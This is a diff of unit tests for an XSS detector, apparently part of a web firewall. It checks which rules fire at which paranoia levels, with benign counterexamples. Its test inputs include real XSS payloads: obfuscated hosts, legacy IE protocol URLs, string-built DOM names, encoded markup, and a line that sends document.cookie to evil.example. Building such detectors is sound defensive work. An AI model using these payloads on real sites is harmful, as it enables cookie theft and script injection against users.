@@ -16,6 +16,14 @@ function strongest(value: string, kind?: InputKind, location?: string): number {
   return Math.max(0, ...scores(value, kind, location).values());
 }
 
+/** The points a value scores at paranoia 1 (each rule once, at its strongest): 5 blocks. */
+function pointsAtP1(value: string): number {
+  const best = new Map<string, number>();
+  for (const hit of xssDetector.detect(viewsOf(value), 'query', 'query.q'))
+    if (hit.paranoia === 1) best.set(hit.rule, Math.max(best.get(hit.rule) ?? 0, hit.score));
+  return [...best.values()].reduce((sum, score) => sum + score, 0);
+}
+
 describe('xss detector', () => {
   test('finds script-capable tags and event handlers', () => {
     assert.equal(scores('<script>alert(1)</script>').get('xss.script-tag'), 5);
@@ -187,5 +195,134 @@ describe('xss detector', () => {
     assert.deepEqual(found('onboarding'), []);
     assert.deepEqual(found('online shop'), []);
     assert.deepEqual(found('<'), []);
+  });
+
+  test('a link whose host is disguised: an IPv4 integer, hex or octal parts, credentials, a bogus port', () => {
+    for (const value of [
+      '<a href="http://1113982867/">x</a>',
+      '<A HREF="http://0x42.0x0000066.0x7.0x93/">x</A>',
+      '<a href="http://0102.0146.0007.00000223/">x</a>',
+      '<img src="//3627734539/x.png">',
+      '<a href="http://trusted.example@evil.example/">x</a>',
+      '<a href="http://google:ha.ckers.org">x</a>',
+      '<a href="http://www.gohttp://www.google.com/ogle.com/">x</a>',
+    ]) {
+      assert.equal(scores(value).get('xss.disguised-host'), 3, value);
+      assert.ok(pointsAtP1(value) >= 5, value);
+    }
+    // Links people write: names, dotted IPv4, IPv6, ports, relative and protocol-relative addresses.
+    for (const value of [
+      '<a href="https://example.com:8443/docs">docs</a>',
+      '<a href="http://192.168.1.1/">router</a>',
+      '<a href="http://[::1]:3000/">local</a>',
+      '<img src="//cdn.example.com/a.png">',
+      '<a href="/users/1113982867">profile</a>',
+      '<a href="mailto:team@example.com">mail</a>',
+      '<a href="https://example.com/?next=http://a@b">x</a>',
+    ])
+      assert.equal(scores(value).get('xss.disguised-host'), undefined, value);
+  });
+
+  test('URLs of old browser protocols that reach local files or other programs', () => {
+    for (const value of [
+      'mhtml:http://evil.example/test.html!xss.html',
+      '<iframe src="ms-its:mhtml:file://c:\\x.mht!http://evil.example/x.chm::/x.htm">',
+      'res://c:\\program files\\adobe\\acrobat 7.0\\acrobat\\acrobat.dll/#2/#210',
+      'res://ieframe.dll/acr_error.htm#evil.example,javascript:alert(1)',
+      'firefoxurl:test" -chrome "javascript:alert(1)',
+      'mk:@MSITStore:C:\\x.chm::/x.htm',
+    ])
+      assert.equal(scores(value).get('xss.legacy-scheme'), 5, value);
+    // Godot's resource paths, the format named in prose.
+    for (const value of [
+      'load("res://scenes/main.tscn")',
+      'Save the page as MHTML: MIME HTML keeps images inline',
+      'the resources://x scheme',
+    ])
+      assert.equal(scores(value).get('xss.legacy-scheme'), undefined, value);
+  });
+
+  test("a password field in markup, IE's behaviour namespaces", () => {
+    assert.equal(scores('<input name="secret" type="password">').get('xss.credential-field'), 3);
+    assert.ok(pointsAtP1('<form action=//evil.example><input type=password name=p></form>') >= 5);
+    assert.equal(scores('<input type="text" name="user">').get('xss.credential-field'), undefined);
+    assert.equal(scores('the password input type').get('xss.credential-field'), undefined);
+    assert.equal(
+      scores('<?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time">').get('xss.ie-namespace'),
+      5,
+    );
+    assert.equal(scores('<XML:NAMESPACE PREFIX="t">').get('xss.ie-namespace'), 5);
+    assert.equal(scores('the xml:namespace attribute of the schema').get('xss.ie-namespace'), undefined);
+  });
+
+  test('ASCII spelled as numeric references counts from paranoia 2, also escaped once more', () => {
+    const found = (value: string, kind: InputKind = 'query') =>
+      xssDetector
+        .detect(viewsOf(value), kind, 'query.q')
+        .filter((h) => h.rule === 'xss.reference-spelled')
+        .map((h) => h.paranoia);
+    assert.deepEqual(found('#98&#92&#105&#92&#110&#100&#92&#105&#110&#92&#103:&'), [2]);
+    assert.deepEqual(found('&amp;#92&amp;#47&amp;#120&amp;#98&amp;#108&amp;#92&amp;#47'), [2]);
+    assert.deepEqual(
+      found('&amp;amp;#39;&amp;amp;#88;&amp;amp;#83;&amp;amp;#83;&amp;amp;#39;&amp;amp;#41;'),
+      [2],
+    );
+    // Characters a keyboard lacks, one at a time; a short run; the escapes of markup characters.
+    assert.deepEqual(found('caf&#233; &#8364;5 &#8217;s'), []);
+    assert.deepEqual(found('&#60;b&#62;bold'), []);
+    assert.deepEqual(found('&#38;&#38;&#38; &#38;&#38;&#38;'), []);
+  });
+
+  test('escape-spelled markup is found in a percent-encoded cookie as in a query', () => {
+    const line = '%3c%69%6d%67%2f%73%72%63%3d%31';
+    assert.equal(scores(line).get('xss.encoded-letters'), 3);
+    assert.equal(scores(encodeURIComponent(line), 'cookie', 'cookie.q').get('xss.encoded-letters'), 3);
+    const ascii = '\u00bcscript\u00bealert(1)\u00bc/script\u00be';
+    assert.equal(scores(encodeURIComponent(ascii), 'cookie', 'cookie.q').get('xss.encoded-markup'), 5);
+    // A cookie with a stray percent sign is read as it came.
+    assert.equal(strongest('50%off', 'cookie', 'cookie.q'), 0);
+  });
+
+  test('a name built from string pieces: DOM objects, sinks, script schemes', () => {
+    for (const value of [
+      "document['coo'+'kie']",
+      "parent['docu' + 'ment']['write']('x')",
+      "Function('ale'+'rt(1)')()",
+      'location.href="jav"+"ascript:"+"alert(1)"',
+      "d.createElement('scr'+'ipt')",
+      // A stray quote before does not shift which quotes pair up.
+      "x' document['coo'+'kie']",
+      "'a'+'b' document['coo'+'kie']",
+    ])
+      assert.equal(scores(value).get('xss.string-built'), 5, value);
+    // Prose and code that join strings, a name in one piece, JSON members.
+    for (const value of [
+      "greeting = 'Hello, ' + 'world'",
+      "path = 'docs/' + 'index.html'",
+      "key = 'cookie' + ''",
+      '{"a":"docu","b":"ment"}',
+      "it's 'java' + 'script' day",
+      "'it' + 's'",
+    ])
+      assert.equal(scores(value).get('xss.string-built'), undefined, value);
+  });
+
+  test('the cookie joined into an address at the end of a value', () => {
+    assert.equal(strongest("x=new Image();x.src='//evil.example/?c='+document.cookie"), 5);
+    // Prose that names the property.
+    assert.ok(strongest('How do I read document.cookie') < 5);
+    assert.ok(strongest('see `document.cookie`') < 5);
+  });
+
+  test('script that navigates to another site counts from paranoia 2', () => {
+    const found = (value: string) =>
+      xssDetector
+        .detect(viewsOf(value), 'query', 'query.q')
+        .filter((h) => h.rule.startsWith('xss.location-assign'))
+        .map((h) => `${h.rule}@${h.paranoia}`);
+    assert.deepEqual(found("top.location='//evil.example'"), ['xss.location-assign.url@2']);
+    assert.deepEqual(found('location="http://html5sec.org";'), ['xss.location-assign.url@2']);
+    assert.deepEqual(found('my location = "Berlin"'), []);
+    assert.deepEqual(found('location.href = "/login"'), []);
   });
 });
